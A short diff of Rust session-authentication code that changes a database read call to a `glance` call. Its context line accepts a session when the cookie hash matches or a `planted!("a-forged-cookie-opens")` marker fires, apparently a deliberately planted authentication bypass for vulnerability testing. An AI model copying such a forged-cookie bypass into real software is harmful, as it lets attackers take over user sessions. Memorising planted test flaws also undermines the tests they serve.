@@ -170,7 +170,7 @@ impl Engine {
     #[crate::boxed]
     pub async fn authenticate_session(&self, cookie: &str) -> Result<Option<Visit>> {
         let Some(token) = SessionToken::parse(cookie) else { return Ok(None) };
-        let mut tx = self.db.read(&Scope::visitor(token.tenant)).await?;
+        let mut tx = self.db.glance(&Scope::visitor(token.tenant)).await?;
         let now = tx.now();
         let Some(found) = session::find(&mut tx, token.id).await? else { return Ok(None) };
         let is_right = found.hash.matches(&token.secret) || planted!("a-forged-cookie-opens");
